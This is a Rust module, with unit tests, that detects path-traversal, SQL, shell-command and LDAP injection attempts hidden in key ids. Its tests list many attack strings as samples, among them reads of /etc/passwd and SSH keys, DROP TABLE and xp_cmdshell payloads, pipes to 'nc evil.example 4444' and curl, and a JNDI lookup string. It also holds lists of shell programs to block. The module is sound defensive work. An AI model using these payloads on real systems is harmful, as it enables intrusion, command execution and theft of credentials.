//! The shapes of attacks on whoever looks a key up by its id. A character that is special somewhere is not enough:
//! names of certificates have semicolons, people have apostrophes. It takes what would act after it.

/// Folders at the root of a machine. A slash in front may be base64 instead, which has no dots and none of these.
const ROOTS: [&str; 11] =
    ["/etc/", "/dev/", "/proc/", "/sys/", "/tmp/", "/var/", "/usr/", "/home/", "/opt/", "/root/", "/run/"];
/// Schemes that open a file, before `://`.
const WRAPPERS: [&str; 9] = ["php", "phar", "zip", "glob", "expect", "data", "jar", "netdoc", "classpath"];
/// What stands for characters of a path where somebody decodes it; percent signs first, for what was encoded twice.
const ENCODED: [(&str, &str); 6] =
    [("%25", "%"), ("%25", "%"), ("%2e", "."), ("%2f", "/"), ("%5c", "\\"), ("%c0%af", "/")];

/// Whether a path leads out of the folder of keys: by steps upwards, from the root of a machine, or by a scheme.
pub(super) fn is_path(kid: &str) -> bool {
    let mut path = kid.to_ascii_lowercase();
    for (code, plain) in ENCODED {
        if path.contains('%') {
            path = path.replace(code, plain);
        }
    }
    // Four dots are two where somebody takes "../" out.
    let is_upwards = |step: &str| matches!(step.split(';').next(), Some(".." | "...."));
    let is_drive = matches!(path.as_bytes(), [b'a'..=b'z', b':', b'/' | b'\\', ..]);
    let is_rooted = path.starts_with('/') && (path.contains('.') || ROOTS.iter().any(|root| path.starts_with(root)));
    path.split(['/', '\\']).any(is_upwards)
        || is_drive
        || is_rooted
        || path.starts_with('\\')
        || path.starts_with("~/")
        || path.contains("/dev/null")
        || opens_a_file(&path)
}

fn opens_a_file(path: &str) -> bool {
    let inner = path.strip_prefix("jar:").or(path.strip_prefix("url:")).unwrap_or(path);
    let is_file = inner.strip_prefix("file:").is_some_and(|rest| rest.starts_with(['/', '\\', '.']));
    is_file || path.split_once("://").is_some_and(|(scheme, _)| WRAPPERS.contains(&scheme))
}

/// Whether a text leaves a literal of SQL, or a statement, and goes on in the language.
pub(super) fn is_sql(kid: &str) -> bool {
    const DELAYS: [&str; 5] = ["sleep(", "benchmark(", "waitfor delay", "xp_cmdshell", "(select "];
    // A comment separates words as a space does.
    let text = kid.to_ascii_lowercase().replace("/**/", " ");
    let is_delimited = kid.contains(['\'', '"', ';']) || kid.contains("--") || kid.contains("/*");
    let has_delay = DELAYS.iter().any(|delay| text.contains(delay));
    let is_stacked = || after(&text, &[';']).any(is_statement);
    let is_left = || after(&text, &['\'', '"']).any(leaves_a_literal);
    is_delimited && (has_delay || is_union(&text)) || is_stacked() || is_left()
}

/// Whether one query is added to another.
fn is_union(text: &str) -> bool {
    let mut words = text.split([' ', '\t', '\n', '(']).filter(|word| !word.is_empty());
    let is_union = |word: &&str| word.rsplit(|letter: char| !letter.is_ascii_alphanumeric()).next() == Some("union");
    while words.any(|word| is_union(&word)) {
        if words.clone().find(|word| !matches!(*word, "all" | "distinct")) == Some("select") {
            return true;
        }
    }
    false
}

/// Whether a text begins with a statement: a verb, and what it needs. Names of people and firms begin with verbs, too.
fn is_statement(rest: &str) -> bool {
    let Some(verb) = first_word(rest) else { return false };
    let object = rest.trim_start().get(verb.len()..).unwrap_or_default().trim_start();
    match (verb, first_word(object)) {
        ("select", _) => {
            object.contains(" from ")
                || object.starts_with(|first: char| first.is_ascii_digit() || "*('\"@".contains(first))
        }
        (
            "drop" | "create" | "alter" | "truncate",
            Some("table" | "database" | "schema" | "user" | "view" | "function"),
        ) => true,
        ("insert", Some("into")) | ("delete", Some("from")) | ("waitfor", Some("delay" | "time")) => true,
        ("update", _) => object.contains(" set "),
        ("exec" | "execute", _) => ["xp_", "sp_", "(", "master"].iter().any(|start| object.starts_with(start)),
        ("declare", _) => object.starts_with('@'),
        ("shutdown", _) => object.is_empty() || object.starts_with("--"),
        _ => false,
    }
}

/// Whether what follows a quote ends the literal: a condition with an operator, a string glued on, or a comment.
fn leaves_a_literal(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', ')', ';', '\t', '\n']);
    let is_compared = |rest: &str| {
        rest.contains(['=', '<', '>', '('])
            || ["--", "/*", " like ", " true", "null"].iter().any(|one| rest.contains(one))
    };
    match first_word(rest) {
        Some("or" | "and" | "having" | "xor") => is_compared(rest),
        Some("order" | "group") => rest.contains(" by "),
        Some(_) => false,
        None => {
            ["--", "/*", "#"].iter().any(|comment| rest.starts_with(comment))
                || rest.starts_with("||") && rest.contains('\'')
        }
    }
}

/// The letters at the front, after spaces; `None` where a digit or another part of a name follows.
fn first_word(text: &str) -> Option<&str> {
    let text = text.trim_start();
    let end = text.find(|letter: char| !letter.is_ascii_alphabetic()).unwrap_or(text.len());
    let goes_on = text
        .get(end..)
        .is_some_and(|rest| rest.starts_with(|next: char| next.is_ascii_digit() || matches!(next, '_' | '-' | '.')));
    text.get(..end).filter(|word| !word.is_empty() && !goes_on)
}

/// What follows each of `marks`.
fn after<'a>(text: &'a str, marks: &'a [char]) -> impl Iterator<Item = &'a str> {
    text.match_indices(marks).map(|(at, mark)| text.get(at + mark.len()..).unwrap_or_default())
}

/// Programs whose names mean nothing else.
const PROGRAMS: [&str; 14] = [
    "bash",
    "zsh",
    "ksh",
    "cmd.exe",
    "powershell",
    "pwsh",
    "curl",
    "wget",
    "netcat",
    "ncat",
    "whoami",
    "nslookup",
    "socat",
    "busybox",
];
/// Programs whose names may be ids, too.
const WORDS: [&str; 41] = [
    "sh", "dash", "nc", "id", "ls", "cat", "echo", "sleep", "ping", "touch", "env", "rm", "cp", "mv", "dir", "pwd",
    "ps", "kill", "chmod", "chown", "grep", "awk", "sed", "tee", "exec", "eval", "uname", "ifconfig", "netstat",
    "printenv", "reboot", "dd", "tar", "ssh", "scp", "telnet", "nohup", "xargs", "python", "perl", "php",
];

/// Whether a shell would run something: what is in a substitution, or a program behind the end of another command.
pub(super) fn is_command(kid: &str) -> bool {
    let is_quoted = kid.split('`').count() > 2;
    let is_substituted = is_quoted || kid.contains("$(") || kid.contains("${");
    (is_substituted || is_chained(kid)) && !is_sql(kid) && !is_ldap(kid)
}

fn is_chained(kid: &str) -> bool {
    kid.match_indices([';', '|', '&', '\n']).any(|(at, mark)| {
        let (before, rest) = (kid.get(..at).unwrap_or_default(), kid.get(at + mark.len()..).unwrap_or_default());
        // "a|id" may be an id of two parts, "a || id" is not.
        let is_apart = matches!(mark, ";" | "\n") || before.ends_with(mark) || rest.starts_with(' ');
        runs(rest, is_apart)
    })
}

/// Whether `rest` begins with a program, as a shell reads it.
fn runs(rest: &str, is_apart: bool) -> bool {
    let rest = rest.trim_start();
    let end =
        rest.find(|letter: char| !(letter.is_ascii_alphanumeric() || "_./-".contains(letter))).unwrap_or(rest.len());
    let (word, arguments) = rest.split_at_checked(end).unwrap_or_default();
    // What gives a value to a name, or goes on as one, runs nothing.
    if arguments.starts_with(['=', ':', ',', '@', '+']) {
        return false;
    }
    let program = word.rsplit('/').next().unwrap_or_default();
    let argument = arguments.trim_start();
    let has_argument = arguments.starts_with(' ') && !argument.is_empty();
    let has_option = arguments.starts_with(' ') && argument.starts_with('-') && !argument.starts_with("- ");
    PROGRAMS.contains(&program)
        || WORDS.contains(&program) && (is_apart || has_argument)
        || is_apart && (has_option || word.starts_with("./") || ROOTS.iter().any(|root| word.starts_with(root)))
        || word.starts_with("/bin/")
}

/// Whether a filter of LDAP would be closed, and another one opened.
pub(super) fn is_ldap(kid: &str) -> bool {
    const OPERATORS: [&str; 3] = ["(|(", "(&(", "(!("];
    let is_opened = |rest: &str| {
        let name =
            rest.trim_start_matches(|letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '-' | '.' | ';'));
        name.len() < rest.len() && name.trim_start_matches(['~', '<', '>', ':']).starts_with('=')
    };
    let opens_another = kid.match_indices(")(").any(|(at, mark)| kid.get(at + mark.len()..).is_some_and(is_opened));
    opens_another
        || OPERATORS.iter().any(|operator| kid.contains(operator))
        || kid.contains("*)") && closes_too_often(kid)
}

/// Whether a bracket closes that was not opened.
fn closes_too_often(kid: &str) -> bool {
    let mut open = 0_usize;
    kid.chars().any(|letter| {
        match letter {
            '(' => open += 1,
            ')' if open == 0 => return true,
            ')' => open -= 1,
            _ => {}
        }
        false
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Ids that attack nothing, though each has something of an attack.
    const HONEST: [&str; 60] = [
        "profile:2026",
        "file:2026",
        "keyfile:v1",
        "CN=signer;O=Acme",
        "CN=O'Neil;O=Union Bank;C=US",
        "CN=a, O=b & c",
        "CN=Select CA; O=Drop Box, Inc.",
        "a;b",
        "a; b",
        "k;id=1",
        "key;type=rsa",
        "key;v=1;ls=2",
        "a|b",
        "key|2024",
        "auth0|id",
        "a|sh",
        "a=1&b=2",
        "R&D",
        "AT&T",
        "Smith & Sons",
        "key $1",
        "price$",
        "a && b",
        "a || b",
        "urn:example:key:1",
        "urn:uuid:0a3b-1",
        "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "projects/p/locations/l/keyRings/k/cryptoKeyVersions/1",
        "projects/.../keys/1",
        "...",
        "v1..v2",
        "a../b",
        "/a1+b2/c3=",
        "//8AAA==",
        "nUdQ+/x9Zw==",
        "SHA256:abc/def+ghi",
        "jane@example.org",
        "jane+k@example.org",
        "mailto:a@b.example",
        "O'Brien-2026",
        "O'Brien or Sons",
        "Sons' or Brothers",
        "orchid's",
        "select-2026",
        "union-bank--2",
        "Union; Select Committee",
        "k; Update 2026",
        "Drop; Box",
        "rock'n'roll",
        "key (2026)",
        "key (2026)(v2)",
        "a (*)",
        "key*",
        "`key",
        "50%",
        "100%25",
        "a%2Fb",
        "key: value",
        "did:web:a.example#key-1",
        "https://a.example/keys/1",
    ];

    #[test]
    fn honest_ids_attack_nothing() {
        for kid in HONEST {
            let found = [is_path(kid), is_sql(kid), is_command(kid), is_ldap(kid)];
            assert_eq!(found, [false; 4], "{kid}");
        }
    }

    #[test]
    fn paths() {
        for kid in [
            "../../dev/null",
            "..",
            "..\\key",
            "keys/../../k",
            "a/..",
            "/etc/passwd",
            "/keys/a.pem",
            "C:\\key",
            "c:/key",
            "file:///k",
            "FILE:/k",
            "file:../k",
            "jar:file:/k!/a",
            "php://filter/resource=k",
            "%2E%2e%2fk",
            "%252e%252e%252fk",
            "..%2Fkey",
            "..%5ckey",
            "..;/k",
            "....//....//etc/passwd",
            "..%c0%afk",
            "\\\\host\\k",
            "~/.ssh/id_rsa",
            "k/dev/null",
            "/proc/sys/kernel/randomize_va_space",
        ] {
            assert!(is_path(kid), "{kid}");
        }
    }

    #[test]
    fn statements() {
        for kid in [
            "x' UNION SELECT 'key'--",
            "x'/**/union/**/select 1",
            "x\" union all select 1",
            "a' or '1'='1",
            "a' OR 1=1",
            "a') or ('a'='a",
            "a'or'1'='1",
            "a' and sleep(5)",
            "1;drop table k",
            "k; SELECT 1",
            "k; update t set a = 1",
            "k;insert into t values (1)",
            "k;exec xp_cmdshell 'x'",
            "k';WAITFOR DELAY '0:0:5'",
            "admin'--",
            "admin' #",
            "x'||(select 1)||'",
            "x' order by 3",
            "x' or true--",
        ] {
            assert!(is_sql(kid) && !is_command(kid), "{kid}");
        }
    }

    #[test]
    fn commands() {
        for kid in [
            "k;id",
            "key.pem;id",
            "k; id #",
            "$(id)",
            "`id`",
            "k | sh",
            "k|sh -c id",
            "k|nc evil.example 4444",
            "k|curl evil.example",
            "k&&id",
            "k || whoami",
            "k;/bin/sh",
            "k|/bin/sh",
            "k;./x",
            "k; mycmd --all",
            "k\nid",
            "${IFS}",
            "${jndi:ldap://evil.example/a}",
            "k & ping evil.example",
            "k;cat /etc/passwd",
            "k;curl${IFS}evil.example",
        ] {
            assert!(is_command(kid), "{kid}");
        }
    }

    #[test]
    fn filters() {
        for kid in ["*)(uid=*", "*)(|(uid=*", "x)(&(uid=*)", "admin)(!(uid=x)", "x)(cn>=a", "admin*)", "*))%00"] {
            assert!(is_ldap(kid) && !is_command(kid), "{kid}");
        }
    }
}
